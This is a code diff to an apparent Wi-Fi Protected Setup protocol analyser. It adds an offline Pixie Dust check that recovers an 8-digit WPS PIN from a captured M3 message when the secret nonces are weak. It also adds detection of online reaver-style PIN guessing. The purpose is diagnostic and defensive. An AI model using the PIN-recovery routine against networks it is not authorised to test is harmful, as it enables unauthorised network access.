@@ -281,11 +281,81 @@ void open_settings(const WscRecord& rec, const KeyPair& k, MessageCheck& mc,
   }
 }
 
+// ---------------------------------------------------------------------------------------------
+// Pixie Dust: E-Hash1/E-Hash2 of M3 against the weak secret-nonce classes
+
+unsigned pin_checksum(unsigned pin7) {
+  unsigned accum = 0;
+  while (pin7) {
+    accum += 3 * (pin7 % 10);
+    pin7 /= 10;
+    accum += pin7 % 10;
+    pin7 /= 10;
+  }
+  return (10 - accum % 10) % 10;
+}
+
+std::string digits(unsigned v, std::size_t n) {
+  std::string s = std::to_string(v);
+  return std::string(n - std::min(s.size(), n), '0') + s;
+}
+
+std::optional<PixieResult> pixie_check(const Session& s, std::size_t ai,
+                                       const crypto::AuthKey& auth, const WscMsgInfo& i1,
+                                       const WscMsgInfo& i2) {
+  const Attempt& a = s.attempts[ai];
+  const WscRecord* m3 = nullptr;
+  for (std::size_t i : a.messages) {
+    if (s.messages[i].type() == MsgType::M3) m3 = &s.messages[i];
+  }
+  if (!m3 || !i1.public_key || !i2.public_key || !i1.enrollee_nonce) return std::nullopt;
+  auto parsed = wsc::parse_m3(m3->raw);
+  auto pke = crypto::DhPublicKey::from(*i1.public_key);
+  auto pkr = crypto::DhPublicKey::from(*i2.public_key);
+  if (!parsed || !pke || !pkr) return std::nullopt;
+  wsc::PublicKeys pks{.enrollee = *pke, .registrar = *pkr};
+  PixieResult r;
+  r.attempt = ai;
+  const std::array<std::uint8_t, 16> zero{};
+  struct Candidate {
+    const char* name;
+    ByteView value;
+  };
+  const Candidate cands[] = {{"zero", ByteView(zero)},
+                             {"enrollee-nonce", i1.enrollee_nonce->view()}};
+  for (const auto& c : cands) {
+    auto es1 = *crypto::ESecretNonce1::from(c.value);
+    for (unsigned h1 = 0; h1 < 10000 && !r.first_half; ++h1) {
+      std::string half = digits(h1, 4);
+      auto psk = wsc::derive_psk(auth, half + "0000");
+      if (wsc::hash_equal(wsc::e_hash(auth, es1, psk.psk1, pks), parsed->e_hash1)) {
+        r.first_half = half;
+      }
+    }
+    if (!r.first_half) continue;
+    r.weak_nonces = c.name;
+    auto es2 = *crypto::ESecretNonce2::from(c.value);
+    unsigned first = static_cast<unsigned>(std::stoul(*r.first_half));
+    for (unsigned h2 = 0; h2 < 1000; ++h2) {
+      unsigned pin7 = first * 1000 + h2;
+      std::string pin = digits(pin7, 7) + std::to_string(pin_checksum(pin7));
+      auto psk = wsc::derive_psk(auth, pin);
+      if (wsc::hash_equal(wsc::e_hash(auth, es2, psk.psk2, pks), parsed->e_hash2)) {
+        r.pin = pin;
+        break;
+      }
+    }
+    break;
+  }
+  return r;
+}
+
 /// Verifies Authenticators and opens Encrypted Settings of one attempt. Returns true when a key
 /// pair matched (M2's Authenticator verified).
-bool check_attempt_keys(const Session& s, const Attempt& a, const Keylog& log, Diagnosis& d,
+bool check_attempt_keys(const Session& s, std::size_t ai, const Keylog& log, Diagnosis& d,
                         std::vector<std::string>& violations,
                         std::vector<std::vector<std::string>>& dev) {
+  const Attempt& a = s.attempts[ai];
   const WscRecord* m1 = nullptr;
   const WscRecord* m2 = nullptr;
   for (std::size_t i : a.messages) {
@@ -304,6 +374,7 @@ bool check_attempt_keys(const Session& s, const Attempt& a, const Keylog& log, D
     }
   }
   if (!chosen) return false;
+  if (auto px = pixie_check(s, ai, chosen->auth, i1, i2)) d.pixie.push_back(std::move(*px));
   const WscRecord* prev = nullptr;
   for (std::size_t i : a.messages) {
     const WscRecord& rec = s.messages[i];
@@ -1175,6 +1246,94 @@ std::string explain(const Row& row, const Session& s, const Event& ev) {
   return "";
 }
 
+/// Recognises the two attacks on the AP PIN in a diagnosed session: online guessing (many
+/// external-registrar attempts ending on a PIN half or the setup lock) and, with the key log,
+/// weak enrollee secret nonces (pixie_check results).
+void attack_notes(const Session& s, const Tracker& tr, Diagnosis& d) {
+  BruteForceInfo b;
+  for (std::size_t i = 0; i < d.attempts.size() && i < s.attempts.size(); ++i) {
+    const AttemptDiagnosis& ad = d.attempts[i];
+    if (!ad.external_registrar) continue;
+    if (b.attempts++ == 0) b.first_ns = s.attempts[i].start_ns;
+    b.last_ns = s.attempts[i].end_ns;
+    bool m5 = false, m7 = false;
+    for (std::size_t m : s.attempts[i].messages) {
+      if (s.messages[m].from != Role::Ap) continue;
+      m5 = m5 || s.messages[m].type() == MsgType::M5;
+      m7 = m7 || s.messages[m].type() == MsgType::M7;
+    }
+    if (ad.outcome == Outcome::WrongPinFirstHalf) ++b.first_half_guesses;
+    if (ad.outcome == Outcome::WrongPinSecondHalf) ++b.second_half_guesses;
+    if (ad.outcome == Outcome::SetupLocked) ++b.locked_refusals;
+    if (m5 && !b.first_half_found) b.first_half_found = i;
+    if (m7 && !b.pin_proved) b.pin_proved = i;
+  }
+  unsigned wrong = b.first_half_guesses + b.second_half_guesses;
+  // hostapd locks after 3 failed AP-PIN proofs: three wrong guesses, or two and a refusal for the
+  // lock, are not a person mistyping a PIN.
+  if (wrong >= 3 || (wrong >= 2 && b.locked_refusals >= 1)) {
+    if (const ApInfo* ap = s.ap_known ? tr.ap(s.ap) : nullptr) {
+      constexpr std::int64_t kAround = 120'000'000'000;  // lock changes shortly before / after
+      for (const auto& c : ap->lock_changes) {
+        if (c.first >= b.first_ns - kAround && c.first <= b.last_ns + kAround) {
+          b.lock_changes.push_back(c);
+        }
+      }
+    }
+    auto count = [](unsigned v, std::string_view one, std::string_view many) {
+      return dec(v) + " " + std::string(v == 1 ? one : many);
+    };
+    std::string n = "online AP-PIN guessing (reaver-like): " + dec(b.attempts) +
+                    " attempts by this external registrar over " +
+                    duration_text(b.last_ns - b.first_ns) + ": " +
+                    count(b.first_half_guesses, "wrong first half", "wrong first halves") +
+                    " (refused after M4), " +
+                    count(b.second_half_guesses, "wrong second half", "wrong second halves") +
+                    " (refused after M6), " + dec(b.locked_refusals) +
+                    " refused for the AP setup lock (config error 15); ";
+    n += b.first_half_found ? "the first half was found in attempt " +
+                                  dec(*b.first_half_found + 1) + " (the AP sent M5)"
+                            : "the first half was not found";
+    if (b.pin_proved) {
+      n += ", the whole PIN in attempt " + dec(*b.pin_proved + 1) + " (the AP sent M7)";
+    }
+    n += "; at most 10^4 + 10^3 = 11,000 guesses find any 8-digit PIN half by half";
+    d.notes.push_back(std::move(n));
+    if (!b.lock_changes.empty()) {
+      std::string l = "AP Setup Locked in the AP's beacons / probe responses:";
+      for (const auto& [t, locked] : b.lock_changes) {
+        l += std::string(" ") + (locked ? "set" : "clear") + " at " + seconds6(t) + " s;";
+      }
+      l.pop_back();
+      d.notes.push_back(std::move(l));
+    }
+    d.summary = "AP-PIN brute force (" + dec(b.attempts) + " attempts); last: " + d.summary;
+    d.brute_force = std::move(b);
+  }
+  bool weak = false;
+  for (const PixieResult& p : d.pixie) {
+    if (p.weak_nonces.empty()) continue;
+    weak = true;
+    bool ap_enrollee = p.attempt < d.attempts.size() && d.attempts[p.attempt].external_registrar;
+    std::string cls = p.weak_nonces == "zero"
+                          ? "E-S1 = E-S2 = 0 (the Ralink/MediaTek/Celeno firmware class)"
+                          : "E-S1 = E-S2 = the Enrollee Nonce N1 (the Realtek RTL819x class, "
+                            "nonce and secrets drawn from random() in the same second)";
+    d.notes.push_back("Pixie Dust: in attempt " + dec(p.attempt + 1) +
+                      " the enrollee's secret "
+                      "nonces are weak, " +
+                      cls + ": E-Hash1/E-Hash2 of M3 give " +
+                      (p.pin ? "the PIN " + *p.pin : "the first half " + *p.first_half) +
+                      " offline — this " + (ap_enrollee ? "AP" : "enrollee") +
+                      " is vulnerable to an offline attack");
+  }
+  if (!d.pixie.empty() && !weak) {
+    d.notes.push_back("offline check (Pixie Dust): no first PIN half makes M3's E-Hash1 with "
+                      "E-S1 = 0 or E-S1 = N1: the enrollee's secret nonces are not of the known "
+                      "weak classes");
+  }
+}
+
 std::vector<PbcSighting> pbc_others(const Tracker& tr, const std::optional<Uuid>& uuid_e,
                                     std::int64_t t_ns) {
   std::vector<PbcSighting> out;
@@ -1265,7 +1424,7 @@ Diagnosis diagnose(const Session& s, const Tracker& tr, const DiagnoseOptions& o
   if (o.keylog) {
     bool registration = false;
     for (std::size_t i = 0; i < s.attempts.size(); ++i) {
-      if (check_attempt_keys(s, s.attempts[i], *o.keylog, d, violations[i], d.deviations)) {
+      if (check_attempt_keys(s, i, *o.keylog, d, violations[i], d.deviations)) {
         d.keys_found = true;
       }
       bool m1 = false, m2 = false;
@@ -1399,6 +1558,7 @@ Diagnosis diagnose(const Session& s, const Tracker& tr, const DiagnoseOptions& o
     d.notes.push_back("limits reached: " + dec(s.dropped_rows) + " rows and " +
                       dec(s.dropped_messages) + " WSC messages not kept");
   }
+  attack_notes(s, tr, d);
   return d;
 }
 
